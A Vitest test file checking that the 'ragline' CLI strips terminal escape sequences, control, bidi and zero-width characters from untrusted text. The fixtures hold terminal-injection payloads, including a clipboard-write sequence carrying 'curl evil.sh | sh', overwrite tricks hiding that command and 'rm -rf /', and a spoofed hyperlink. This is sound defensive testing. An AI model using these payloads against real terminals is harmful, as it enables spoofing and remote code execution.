// Document text is untrusted: after sanitizeForTerminal it carries no escape
// sequence, C0/C1 control (other than tab and newline), bidi control or
// zero-width character, for hand-picked hostile strings and for any string
// (fast-check, fixed seed). End to end: fixtures/edge/hostile.md, and a file whose
// very name is hostile, ingested and then shown by `ragline search` put no ESC,
// BEL or U+202E byte on stdout.

import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { PassThrough } from 'node:stream';
import { createOutput, loadColors } from '../src/cli/output.js';
import { oneLine, sanitizeForTerminal, sanitizeStyled } from '../src/util/sanitize.js';
import { ROOT, isolatedEnv, ragline, tempDir } from './helpers/cli.js';

/**
 * What must never reach a terminal: C0 except \t \n, DEL, C1, bidi controls, zero-width
 * space and marks, line/paragraph separators (the non-joiner and joiner are text).
 */
const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2060-\u2064\u2066-\u2069\ufeff]/u;

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** [name, hostile input, text that must survive] */
const HOSTILE: [string, string, string][] = [
  ['CSI colour', `${ESC}[31mred${ESC}[0m text`, 'red text'],
  ['CSI with parameters and intermediates', `${ESC}[38;2;255;0;0mtrue${ESC}[1 qcolour`, 'truecolour'],
  ['CSI cursor up and erase line', `safe${ESC}[1A${ESC}[2Kforged`, 'safeforged'],
  ['OSC 0 title ended by BEL', `before${ESC}]0;pwned${BEL}after`, 'beforeafter'],
  ['OSC 0 title ended by ST', `before${ESC}]0;pwned${ST}after`, 'beforeafter'],
  ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example${ST}click me${ESC}]8;;${ST}`, 'click me'],
  ['OSC 52 clipboard write', `x${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}y`, 'xy'],
  ['DCS ended by ST', `a${ESC}P1;2|secret-payload${ST}b`, 'ab'],
  ['unterminated OSC', `ok${ESC}]2;title without end`, 'ok'],
  ['C1 CSI U+009B', `\u009b31mred\u009b0m`, 'red'],
  ['C1 OSC U+009D ended by U+009C', `a\u009d0;title\u009cb`, 'ab'],
  ['C1 DCS U+0090 and other C1 bytes', `a\u0090\u0085\u008eb`, 'ab'],
  ['bidi override U+202E', `invoice\u202Egpj.exe`, 'invoicegpj.exe'],
  ['bidi isolates U+2066-U+2069 and embeddings', `\u2066a\u2067b\u2068c\u2069\u202Ad\u202Be\u202Cf\u202D`, 'abcdef'],
  ['zero-width space, marks, BOM, word joiner', `pa\u200Bssword\u200E\u200F\uFEFF\u2060\u2063!`, 'password!'],
  ['NUL', `nul\u0000byte`, 'nulbyte'],
  ['backspace overwrite', `rm -rf /\b\b\b\b\b\b\b\bls -la  `, 'rm -rf /ls -la  '],
  ['carriage return overwrite', `curl evil.sh | sh\rls`, 'curl evil.sh | sh\nls'],
  ['bare BEL and DEL', `ding${BEL}dong\u007f`, 'dingdong'],
  ['ESC ESC and lone ESC at the end', `${ESC}${ESC}[31mx${ESC}`, 'x'],
  ['vertical tab, form feed, line and paragraph separators', `a\u000bb\u000cc\u2028d\u2029e`, 'abcde'],
];

describe('sanitizeForTerminal with hostile strings', () => {
  test.each(HOSTILE)('%s: no escape, control, bidi or zero-width character survives, the text does', (_name, input, kept) => {
    const output = sanitizeForTerminal(input);
    expect(output).not.toMatch(FORBIDDEN);
    expect(output).toBe(kept);
  });

  test('tabs, newlines and ordinary Unicode (accents, CJK, emoji, RTL script) are kept', () => {
    const text = 'Tab\there\nnew line: café 日本語 🚀 שלום مرحبا';
    expect(sanitizeForTerminal(text)).toBe(text);
  });

  test('the zero-width non-joiner and joiner are kept: Persian words and emoji sequences display as written', () => {
    for (const text of ['می\u200cخواهم', 'क्\u200dष', '👩\u200d💻 👨\u200d👩\u200d👧 🏳️\u200d🌈']) {
      expect(sanitizeForTerminal(text)).toBe(text);
      expect(oneLine(text)).toBe(text);
    }
  });

  // Reading these takes time in proportion to their length: a pattern that backtracked
  // over them (n² steps on a megabyte) would not finish.
  test('a 1 MB line of mixed escapes is cleaned', () => {
    const unit = `word ${ESC}[31mred${ESC}[0m ${ESC}]0;t${BEL}\u202E\u200B `;
    const long = unit.repeat(Math.ceil(1_000_000 / unit.length));
    const output = sanitizeForTerminal(long);
    expect(output).not.toMatch(FORBIDDEN);
    expect(output.startsWith('word red ')).toBe(true);
  });

  test('unterminated sequences repeated 100k times do not blow up (no catastrophic backtracking)', () => {
    for (const opener of [`${ESC}[`, `${ESC}]`, `${ESC}P`, '\u009b', '\u009d', `${ESC}[${'1;'.repeat(10)}`]) {
      const output = sanitizeForTerminal((opener + '0123456789').repeat(100_000));
      expect(output, JSON.stringify(opener)).not.toMatch(FORBIDDEN);
    }
  });

  test('oneLine: hostile text becomes one line within the limit', () => {
    const line = oneLine(`a${ESC}]0;x${BEL}\r\nb\u2028c\td${'e'.repeat(500)}`, 40);
    expect(line).not.toMatch(/[\n\r\t]/);
    expect(line).not.toMatch(FORBIDDEN);
    expect(line.length).toBeLessThanOrEqual(40);
    expect(line.startsWith('a bc d')).toBe(true); // U+2028 is dropped, not turned into a space
  });
});

describe('sanitizeForTerminal on any string (fast-check, seed 20240611, 1000 runs each)', () => {
  const fragments = [ESC, BEL, ST, `${ESC}[`, `${ESC}]`, `${ESC}P`, '\u009b', '\u009c', '\u009d', '\u0090', '\r', '\b', '\u0000', '\u202E', '\u2066', '\u200B', '\uFEFF', 'm', ';', '31', 'text'];
  const hostileString = fc
    .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 40 })
    .map((parts) => parts.join(''));

  test('no forbidden character in the output of any Unicode string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (input) => !FORBIDDEN.test(sanitizeForTerminal(input))),
      { seed: 20240611, numRuns: 1000 },
    );
  });

  test('no forbidden character in the output of strings built from escape-sequence fragments', () => {
    fc.assert(
      fc.property(hostileString, (input) => !FORBIDDEN.test(sanitizeForTerminal(input))),
      { seed: 20240611, numRuns: 1000 },
    );
  });

  test('sanitizing twice changes nothing more (the output is already safe text)', () => {
    fc.assert(
      fc.property(hostileString, (input) => {
        const once = sanitizeForTerminal(input);
        return sanitizeForTerminal(once) === once;
      }),
      { seed: 20240611, numRuns: 1000 },
    );
  });

  test('oneLine output has no forbidden character, no line break or tab, and respects the limit', () => {
    fc.assert(
      fc.property(hostileString, fc.integer({ min: 1, max: 120 }), (input, max) => {
        const line = oneLine(input, max);
        return !FORBIDDEN.test(line) && !/[\n\r\t]/.test(line) && line.length <= max;
      }),
      { seed: 20240611, numRuns: 1000 },
    );
  });
});

describe('sanitizeStyled: a line the CLI coloured', () => {
  /** The CLI's own styles (chalk's bold, dim, five colours and their resets). */
  const OWN = /\u001b\[(?:1|2|22|31|32|33|35|36|39)m/g;
  const fragments = [ESC, BEL, ST, `${ESC}[`, `${ESC}]`, `${ESC}P`, `${ESC}[31m`, `${ESC}[39m`, `${ESC}[1m`, `${ESC}[8m`, '\u009b', '\u009d', '\r', '\b', '\u202E', '\u200B', ']0;', 'm', ';', 'text'];
  const styledHostile = fc.array(fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'binary', maxLength: 6 })), { maxLength: 40 }).map((parts) => parts.join(''));

  test('keeps its own colours and removes a title, a hidden-text style, a cursor move and a bidi control from the text between them', () => {
    const line = `${ESC}[36mdocs/x.md${ESC}[39m  ${ESC}[1m${ESC}]0;PWN${BEL}Head${ESC}[8mhidden${ESC}[2A\u202Eing${ESC}[22m`;
    expect(sanitizeStyled(line)).toBe(`${ESC}[36mdocs/x.md${ESC}[39m  ${ESC}[1mHeadhiddening${ESC}[22m`);
  });

  test('on any string (fast-check, seed 20240611): nothing but its own styles carries an ESC, and nothing forbidden is left', () => {
    fc.assert(
      fc.property(styledHostile, (input) => {
        const rest = sanitizeStyled(input).replace(OWN, '');
        return !FORBIDDEN.test(rest);
      }),
      { seed: 20240611, numRuns: 1000 },
    );
  });
});

describe("the CLI's writer sanitises whatever a call site passes it", () => {
  const capture = (isTTY: boolean) => {
    const stream = new PassThrough();
    let text = '';
    stream.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    Object.assign(stream, { isTTY, getColorDepth: () => 8, columns: 80 });
    return { stream: stream as unknown as NodeJS.WriteStream, text: () => text };
  };
  const hostile = `g${ESC}]0;PWN${BEL}\u009b31m\u202Eg ${ESC}[2Jdone`;

  test('without colour: out, write and err print no ESC, C1 or bidi control', () => {
    const stdout = capture(false);
    const stderr = capture(false);
    const output = createOutput(stdout.stream, stderr.stream, { NO_COLOR: '1' });
    output.out(hostile);
    output.write(hostile);
    output.err(output.errColor.red('error: ') + hostile);
    for (const text of [stdout.text(), stderr.text()]) {
      expect(text).not.toMatch(FORBIDDEN);
      expect(text).toContain('gg done');
    }
  });

  test('with colour: its own styles are written, the hostile sequences in the text are not', async () => {
    const stdout = capture(true);
    const stderr = capture(true);
    const env = { FORCE_COLOR: '1' };
    await loadColors({ stdout: stdout.stream, stderr: stderr.stream, env });
    const output = createOutput(stdout.stream, stderr.stream, env);
    output.out(output.color.bold(hostile));
    expect(stdout.text()).toBe(`${ESC}[1mgg done${ESC}[22m\n`);
  });
});

describe('ragline search shows hostile documents safely', () => {
  let home: string;
  beforeAll(() => {
    if (!fs.existsSync(path.join(ROOT, 'dist/cli/main.js'))) throw new Error('Build first: npx tsc -p .');
  });
  beforeEach(() => {
    home = tempDir();
  });
  afterEach(() => fs.rmSync(home, { recursive: true, force: true }));

  const assertClean = (stdout: string) => {
    const bytes = Buffer.from(stdout, 'utf8');
    expect(bytes.includes(0x1b), 'ESC on stdout').toBe(false);
    expect(bytes.includes(0x07), 'BEL on stdout').toBe(false);
    expect(stdout).not.toContain('\u202E');
    expect(stdout).not.toMatch(FORBIDDEN);
  };

  test('fixtures/edge/hostile.md: search output has no ESC, BEL or U+202E', async () => {
    const docs = path.join(home, 'docs');
    fs.mkdirSync(docs);
    fs.copyFileSync(path.join(ROOT, 'fixtures', 'edge', 'hostile.md'), path.join(docs, 'hostile.md'));
    const env = isolatedEnv(home);
    expect((await ragline(['ingest', docs], { env })).code).toBe(0);
    for (const query of ['red ANSI colour middle', 'terminal title pwned', 'bidi override reorder', 'rings the bell']) {
      const result = await ragline(['search', query], { env });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toContain('hostile.md');
      assertClean(result.stdout);
    }
  });

  test('a file whose name and heading carry escapes is listed without them', async () => {
    const docs = path.join(home, 'docs');
    fs.mkdirSync(docs);
    const name = `evil${ESC}[31m\u202Edm.md`;
    fs.writeFileSync(path.join(docs, name), `# Heading ${ESC}]0;owned${BEL}with title\n\nPayload about zanzibar ferries ${ESC}[5mblink${ESC}[0m.\n`);
    const env = isolatedEnv(home);
    expect((await ragline(['ingest', docs], { env })).code).toBe(0);
    const result = await ragline(['search', 'zanzibar ferries'], { env });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('evildm.md:1-3');
    assertClean(result.stdout);
  });
});
